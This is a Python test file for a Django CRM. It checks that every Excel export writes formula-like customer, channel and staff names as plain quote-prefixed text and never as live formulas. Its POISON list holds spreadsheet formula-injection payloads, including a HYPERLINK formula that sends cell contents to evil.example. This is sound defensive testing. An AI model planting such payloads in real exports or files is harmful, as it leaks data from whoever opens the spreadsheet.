"""Every Excel export, API and console, writes text as text: a nickname, a channel or a live-code
name that starts like a formula (= + - @ tab CR) is a quote-prefixed string in the workbook, never a
formula, and a segment whose name Excel refuses as a sheet title still exports.

Exports are found from the OpenAPI document and the console's URL configuration (paths ending in
.xlsx), so an export added later is checked without a test of its own."""

import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from siyu.acquisition.services import acquisition_record, channel_create, live_code_save
from siyu.analytics.models import Segment
from siyu.api import api as ninja_api
from siyu.console import urls as console_urls
from siyu.guides.models import GuideAssignment, GuideTask
from siyu.kit.tenancy import Role
from siyu.messaging.models import MassSend, MassSendTask

from . import factories as f
from .conftest import ApiClient

pytestmark = pytest.mark.django_db
POISON = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
API_EXPORTS = [p for p in ninja_api.get_openapi_schema()["paths"] if p.endswith(".xlsx")]
CONSOLE_EXPORTS = [p for p in console_urls.urlpatterns if str(p.pattern).endswith(".xlsx")]


@pytest.fixture
def poisoned(db):
    corp = f.corp("导出企业")
    admin = f.actor(corp, Role.OWNER)
    staff = f.staff(corp, name=POISON[3])
    channel = channel_create(actor=admin, name=POISON[1], group="store")
    code = live_code_save(actor=admin, channel=channel, name=POISON[2], mode="exact", members=[{"staff_id": staff.id}])
    for i, name in enumerate(POISON):
        follow = f.follow(f.customer(corp, name=name, external_userid=f"wm{i}"), staff, state=code.state)
        acquisition_record(corp=corp, follow=follow)  # the add as the live code's, for the statistics
    segment = Segment.objects.create(corp=corp, name="新客/老客: [A]*?", filters={})
    send = MassSend.objects.create(corp=corp, name=POISON[0], text="x", audience={"kind": "filters", "filters": {}}, send_at=timezone.now())
    MassSendTask.objects.create(corp=corp, send=send, staff=staff, recipients=len(POISON))  # the staff member's name is poisoned
    task = GuideTask.objects.create(
        corp=corp,
        name=POISON[4],
        kind="revisit",
        audience={"kind": "filters", "filters": {}},
        starts_at=timezone.now(),
        notify_at=timezone.now(),
        ends_at=timezone.now() + timedelta(days=1),
        status="active",
    )
    GuideAssignment.objects.create(corp=corp, task=task, staff=staff, items_total=1)  # the guide's name is poisoned
    return {"admin": admin, "segment_id": segment.id, "send_id": send.id, "guide_task_id": task.id}


def _check(response):
    assert response.status_code == 200, response.content[:300]
    book = load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} is not marked as text"
    return book, texts


def _fill(path: str, objects: dict) -> str:
    for name, value in objects.items():
        path = path.replace("{" + name + "}", str(value))
    assert "{" not in path, f"{path}: add an object for its parameter to the poisoned fixture"
    return path


@pytest.mark.parametrize("path", API_EXPORTS)
@pytest.mark.parametrize("by", ["channel", "live_code", "staff"])
def test_api_exports_write_text_as_text(path, by, poisoned):
    api = ApiClient(f.token(poisoned["admin"].user, poisoned["admin"].corp))
    today = timezone.now().astimezone(poisoned["admin"].corp.tzinfo).date()
    period = {"start": (today - timedelta(days=7)).isoformat(), "end": today.isoformat()}
    book, texts = _check(api.get("/api" + _fill(path, poisoned) if path.startswith("/v1") else _fill(path, poisoned), by=by, **period))
    assert any(p in texts for p in POISON), texts  # the names are there, verbatim


@pytest.mark.parametrize("pattern", CONSOLE_EXPORTS, ids=[p.name for p in CONSOLE_EXPORTS])
def test_console_exports_write_text_as_text(pattern, poisoned):
    client = Client()
    client.force_login(poisoned["admin"].user)
    kwargs = {k: poisoned[k] for k in pattern.pattern.converters}
    book, texts = _check(client.get(reverse(f"console:{pattern.name}", kwargs=kwargs)))
    assert any(p in texts for p in POISON), texts


def test_the_exports_are_found():
    assert len(API_EXPORTS) >= 2 and len(CONSOLE_EXPORTS) >= 2


def test_a_segment_named_with_characters_excel_refuses_exports_under_a_cleaned_title(poisoned):
    client = Client()
    client.force_login(poisoned["admin"].user)
    book, texts = _check(client.get(reverse("console:segment_xlsx", kwargs={"segment_id": poisoned["segment_id"]})))
    assert book.sheetnames == ["新客 老客 A"]
    # (A leading carriage return does not survive the XML round trip as itself; it is no formula either.)
    assert set(POISON) - {"\r=1+1"} <= set(texts)
